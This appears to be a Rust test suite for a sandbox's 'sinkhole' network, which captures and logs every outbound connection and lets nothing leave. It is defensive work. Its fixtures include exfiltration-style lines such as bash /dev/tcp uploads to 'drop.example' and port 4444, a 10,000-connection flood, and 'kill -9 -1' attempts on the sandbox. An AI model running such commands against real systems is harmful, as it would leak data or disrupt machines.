//! An internet that leads nowhere, and what it writes down.

use std::fs;

use lapwing_core::{
    Command, Contact, ExitStatus, Network, Observe, Protocol, Provider, Sandbox, SandboxSpec,
};
use lapwing_sandbox::Native;

use crate::beside::{pair, server};
use crate::watch::contacts;
use crate::{Suite, output, refusal, run, spec};

pub(crate) fn add(suite: &mut Suite) {
    suite.test("an_upload_is_taken_with_its_true_destination_name_and_bytes", upload);
    suite.test("a_tls_greeting_is_refused_and_its_name_kept", tls);
    suite.test("names_are_looked_up_and_written_down", names);
    suite.test("datagrams_and_ipv6_are_taken_with_their_destination", datagrams);
    suite.test("services_beside_and_inside_answer_and_their_ports_stay_free", services);
    suite.test("ten_thousand_connections_are_all_written_down_in_bounded_memory", many);
    suite.test("an_upload_of_many_megabytes_is_counted_to_its_end", large);
    suite.test("a_silent_connection_is_told_of_while_it_is_open_and_once", open);
    suite.test("what_is_lost_on_the_way_is_not_taken_for_nothing", lost);
    suite.test("commands_cannot_end_the_sinkhole", safe);
    suite.test("a_service_on_all_addresses_takes_a_connection_that_is_told_of", taken);
    suite.test("nothing_leaves_the_sinkhole", closed);
}

async fn sinkhole(native: &Native) -> Box<dyn Sandbox> {
    native.create(SandboxSpec { network: Network::Sinkhole, ..spec() }).await.unwrap()
}

/// Place, name, what was told and what was sent.
fn told(contact: &Contact) -> (Protocol, String, Option<&str>, Option<&str>, String) {
    let place = format!("{} {}", contact.address, contact.port);
    let payload = String::from_utf8_lossy(&contact.payload).into_owned();
    (contact.protocol, place, contact.name.as_deref(), contact.told.as_deref(), payload)
}

const POST: &str = "exec 3<>/dev/tcp/drop.example/80; \
    printf 'POST /in HTTP/1.1\\r\\nHost: other.example\\r\\nContent-Length: 12\\r\\n\\r\\ncode-5318008' >&3; head -1 <&3";

async fn upload(native: Native) {
    let sandbox = sinkhole(&native).await;
    assert_eq!(output(&*sandbox, POST).await.trim(), "HTTP/1.1 200 OK");
    output(&*sandbox, "exec 3<>/dev/tcp/93.184.216.34/4444; echo plain >&3").await;
    // Data with the first packet: a `sendto` that connects.
    let fast = format!(
        "use Socket; socket(S, PF_INET, SOCK_STREAM, 0); \
         send(S, 'at once', {}, sockaddr_in(99, inet_aton('192.0.2.4'))) or die $!",
        libc::MSG_FASTOPEN
    );
    assert!(sandbox.exec(Command::new(["perl", "-e", &fast])).await.unwrap().status.success());
    let seen = contacts(&*sandbox).await;
    let seen: Vec<&Contact> = seen.iter().filter(|one| one.protocol != Protocol::Dns).collect();
    assert_eq!(seen.len(), 3, "{seen:?}");
    let fast = (Protocol::Tcp, "192.0.2.4 99".to_owned(), None, None, "at once".to_owned());
    assert_eq!(told(seen[2]), fast);
    let (protocol, place, name, host, payload) = told(seen[0]);
    assert_eq!(
        (protocol, name, host),
        (Protocol::Tcp, Some("drop.example"), Some("other.example"))
    );
    assert!(place.starts_with("198.1") && place.ends_with(" 80"), "{place}");
    assert!(
        payload.starts_with("POST /in") && payload.ends_with("\r\n\r\ncode-5318008"),
        "{payload}"
    );
    assert_eq!(seen[0].sent_bytes, Some(payload.len() as u64));
    assert!(seen[0].pid > 1);
    let plain = (Protocol::Tcp, "93.184.216.34 4444".to_owned(), None, None, "plain\n".to_owned());
    assert_eq!(told(seen[1]), plain);
}

async fn tls(native: Native) {
    let sandbox = sinkhole(&native).await;
    // A greeting with one extension, the name of the server.
    let hello = "\\x16\\x03\\x01\\x00\\x40\\x01\\x00\\x00\\x3c\\x03\\x03aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\
                 \\x00\\x00\\x02\\x13\\x01\\x01\\x00\\x00\\x11\\x00\\x00\\x00\\x0d\\x00\\x0b\\x00\\x00\\x08a.exampl";
    let script = format!("exec 3<>/dev/tcp/b.example/443; printf '{hello}' >&3; od -An -tx1 <&3");
    assert_eq!(output(&*sandbox, &script).await.trim(), "15 03 01 00 02 02 28");
    let seen = contacts(&*sandbox).await;
    let seen = seen.iter().find(|one| one.protocol == Protocol::Tcp).unwrap();
    assert_eq!(
        (seen.port, seen.name.as_deref(), seen.told.as_deref()),
        (443, Some("b.example"), Some("a.exampl"))
    );
    assert_eq!(seen.sent_bytes, Some(69));
}

async fn names(native: Native) {
    let (one, other) = (sinkhole(&native).await, sinkhole(&native).await);
    let ask = "getent ahostsv4 Drop.Example | cut -d' ' -f1 | sort -u";
    let address = output(&*one, ask).await;
    assert!(address.starts_with("198.18.") || address.starts_with("198.19."), "{address}");
    assert_eq!(output(&*other, ask).await, address);
    assert_ne!(
        output(&*one, "getent ahostsv4 other.example | cut -d' ' -f1 | sort -u").await,
        address
    );
    assert_eq!(
        output(&*one, "getent ahostsv4 workstation | cut -d' ' -f1 | sort -u").await,
        "127.0.0.1"
    );
    let seen = contacts(&*one).await;
    assert!(seen.iter().all(|one| (one.protocol, one.port) == (Protocol::Dns, 53)), "{seen:?}");
    let mut names: Vec<&str> = seen.iter().filter_map(|one| one.name.as_deref()).collect();
    names.dedup();
    assert_eq!(names, ["drop.example", "other.example"]);
}

async fn datagrams(native: Native) {
    let sandbox = sinkhole(&native).await;
    output(&*sandbox, "echo one > /dev/udp/203.0.113.9/514; echo two > /dev/udp/203.0.113.9/514")
        .await;
    output(
        &*sandbox,
        "echo six > /dev/udp/2001:db8::7/514; exec 3<>/dev/tcp/2001:db8::8/8080; echo stream >&3",
    )
    .await;
    let send = "use Socket; socket(S, PF_INET, SOCK_DGRAM, 0); send(S, 'unconnected', 0, sockaddr_in(7, inet_aton('192.0.2.1')))";
    sandbox.exec(Command::new(["perl", "-e", send])).await.unwrap();
    let seen = contacts(&*sandbox).await;
    let seen: Vec<_> = seen.iter().map(told).collect();
    let row = |protocol, place: &str, payload: &str| {
        (protocol, place.to_owned(), None, None, payload.to_owned())
    };
    let expected = [
        row(Protocol::Udp, "203.0.113.9 514", "one\ntwo\n"),
        row(Protocol::Udp, "2001:db8::7 514", "six\n"),
        row(Protocol::Tcp, "2001:db8::8 8080", "stream\n"),
        row(Protocol::Udp, "192.0.2.1 7", "unconnected"),
    ];
    assert_eq!(seen, expected);
}

async fn services(native: Native) {
    let [agent, hosts] = pair(&native, Network::Sinkhole).await;
    let mut serving = hosts.open(server(80)).await.unwrap();
    assert_eq!(serving.receive().await.unwrap(), b"on\n");
    let ask = "exec 3<>/dev/tcp/mail.internal/80; cat <&3";
    assert_eq!(output(&*agent, ask).await, "hello");
    assert_eq!(output(&*agent, POST).await.trim(), "HTTP/1.1 200 OK");
    assert_eq!(output(&*agent, ask).await, "hello");
    // The sinkhole is the agent's alone.
    refusal(&*hosts, "exec 3<>/dev/tcp/192.0.2.9/80").await;
    // The port that was just connected to can be served on all addresses.
    let all = "use IO::Socket::INET; IO::Socket::INET->new(LocalPort => 8080, Listen => 1, ReuseAddr => 1) or die $!";
    output(&*agent, "exec 3<>/dev/tcp/drop.example/8080; echo x >&3").await;
    let bound = agent.exec(Command::new(["perl", "-e", all])).await.unwrap();
    assert_eq!(String::from_utf8_lossy(&bound.stderr), "");
    let seen = contacts(&*agent).await;
    let ports: Vec<u16> =
        seen.iter().filter(|one| one.protocol == Protocol::Tcp).map(|one| one.port).collect();
    assert_eq!(ports, [80, 8080]);
}

async fn many(native: Native) {
    let sandbox = sinkhole(&native).await;
    let resident = || {
        let children = |pid: &str| {
            fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default()
        };
        // The launcher is a child of this process, and pid 1 of every sandbox its own.
        let launchers = children(&std::process::id().to_string());
        let inits = launchers.split_whitespace().map(children).collect::<Vec<_>>().join(" ");
        let resident = inits.split_whitespace().filter_map(|pid| {
            let status = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
            let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"))?;
            line.trim().trim_end_matches(" kB").parse::<u64>().ok()
        });
        resident.max().unwrap()
    };
    let flood = "use Socket; for $i (1..10000) { socket(S, PF_INET, SOCK_STREAM, 0); \
                 connect(S, sockaddr_in(1 + $i, inet_aton('192.0.2.1'))) or die $!; syswrite(S, 'x' x 4000); close S }";
    output(&*sandbox, "true").await;
    let flooded = sandbox.exec(Command::new(["perl", "-e", flood])).await.unwrap();
    assert!(flooded.status.success(), "{}", String::from_utf8_lossy(&flooded.stderr));
    assert!(resident() < 64 * 1024, "{} KiB", resident());
    let seen = contacts(&*sandbox).await;
    assert_eq!(seen.len(), 10_000);
    assert!(seen.iter().all(|one| one.sent_bytes == Some(4000)));
    assert_eq!(seen.iter().map(|one| one.payload.len()).sum::<usize>(), 16 << 20);
    assert_eq!(
        seen.iter().map(|one| one.port).collect::<Vec<_>>(),
        (2..=10_001).collect::<Vec<_>>()
    );
}

async fn large(native: Native) {
    let sandbox = sinkhole(&native).await;
    output(&*sandbox, "exec 3<>/dev/tcp/192.0.2.1/99; head -c 60000000 /dev/zero >&3").await;
    let seen = contacts(&*sandbox).await;
    assert_eq!(
        (seen.len(), seen[0].sent_bytes, seen[0].payload.len()),
        (1, Some(60_000_000), 1 << 20)
    );
}

async fn open(native: Native) {
    let sandbox = sinkhole(&native).await;
    let talk = "exec 3<>/dev/tcp/192.0.2.1/99; echo first >&3; echo on; read x; echo second >&3; exec 3>&-; echo off; read x";
    let mut session = sandbox.open(Command::new(["bash", "-c", talk])).await.unwrap();
    assert_eq!(session.receive().await.unwrap(), b"on\n");
    let payloads = async || -> Vec<String> {
        contacts(&*sandbox).await.iter().map(|one| told(one).4).collect()
    };
    assert_eq!(payloads().await, ["first\n"]);
    assert!(payloads().await.is_empty());
    session.send(b"\n").await.unwrap();
    assert_eq!(session.receive().await.unwrap(), b"off\n");
    assert_eq!(payloads().await, ["second\n"]);
    assert!(payloads().await.is_empty());
}

async fn lost(native: Native) {
    let sandbox = sinkhole(&native).await;
    // More datagrams than a socket holds, over a connected socket, of which pid 1 is not told one by one; and a stream whose
    // sender resets it.
    let flood = "use Socket; socket(S, PF_INET, SOCK_DGRAM, 0); connect(S, sockaddr_in(9, inet_aton('192.0.2.1'))); \
                 for (1..20000) { send(S, 'x' x 1000, 0) }";
    sandbox.exec(Command::new(["perl", "-e", flood])).await.unwrap();
    let reset = "use Socket; socket(S, PF_INET, SOCK_STREAM, 0); setsockopt(S, SOL_SOCKET, SO_LINGER, pack('ii', 1, 0)); \
                 connect(S, sockaddr_in(9, inet_aton('192.0.2.2'))) or die; send(S, 'gone', 0); close S";
    sandbox.exec(Command::new(["perl", "-e", reset])).await.unwrap();
    let seen = contacts(&*sandbox).await;
    assert_eq!(
        seen.iter().map(|one| one.protocol).collect::<Vec<_>>(),
        [Protocol::Udp, Protocol::Tcp]
    );
    let whole = |one: &Contact, bytes: u64| one.sent_bytes == Some(bytes);
    assert!(
        seen[0].sent_bytes.is_none() || whole(&seen[0], 20_000_000),
        "{:?}",
        seen[0].sent_bytes
    );
    assert!(seen[1].sent_bytes.is_none() || whole(&seen[1], 4), "{:?}", seen[1].sent_bytes);
}

async fn safe(native: Native) {
    let sandbox = sinkhole(&native).await;
    run(&*sandbox, "kill -9 1; kill -STOP 1; for p in $(seq 2 300); do kill -9 $p; done 2>/dev/null; kill -9 -1").await;
    assert_eq!(output(&*sandbox, POST).await.trim(), "HTTP/1.1 200 OK");
    assert!(contacts(&*sandbox).await.iter().any(|one| one.port == 80));
}

async fn taken(native: Native) {
    let sandbox = sinkhole(&native).await;
    let all = "use IO::Socket::INET; $s = IO::Socket::INET->new(LocalPort => 81, Listen => 1) or die $!; \
               $| = 1; print \"on\\n\"; $c = $s->accept; print $c \"mine\\n\"; close $c; sleep 1000";
    let mut serving = sandbox.open(Command::new(["perl", "-e", all])).await.unwrap();
    assert_eq!(serving.receive().await.unwrap(), b"on\n");
    assert_eq!(output(&*sandbox, "exec 3<>/dev/tcp/192.0.2.5/81; cat <&3").await, "mine");
    let seen = contacts(&*sandbox).await;
    assert_eq!((seen.len(), seen[0].port, seen[0].sent_bytes), (1, 81, None));
}

async fn closed(native: Native) {
    let observe = Observe { exec: false, connect: true };
    let network = Network::Sinkhole;
    let sandbox = native.create(SandboxSpec { network, observe, ..spec() }).await.unwrap();
    // This harness serves on every address of the host; inside, each of them is the sandbox's own.
    let host = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let port = host.local_addr().unwrap().port();
    let addresses = fs::read_to_string("/proc/net/fib_trie").unwrap();
    let addresses: std::collections::BTreeSet<&str> = addresses
        .lines()
        .filter_map(|line| line.trim().strip_prefix("|-- "))
        .filter(|address| !address.starts_with("127.") && !address.ends_with(".0"))
        .collect();
    for address in &addresses {
        run(&*sandbox, &format!("exec 3<>/dev/tcp/{address}/{port}; echo x >&3")).await;
    }
    let local = run(&*sandbox, &format!("exec 3<>/dev/tcp/127.0.0.1/{port}")).await;
    assert_ne!(local.status, ExitStatus::Exit { code: 0 });
    assert_eq!(host.accept().map(|_| ()).unwrap_err().kind(), std::io::ErrorKind::WouldBlock);
    assert_eq!(contacts(&*sandbox).await.len(), addresses.len() + 1);
    let routes =
        output(&*sandbox, "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '").await;
    assert_eq!(routes, "lo");
}
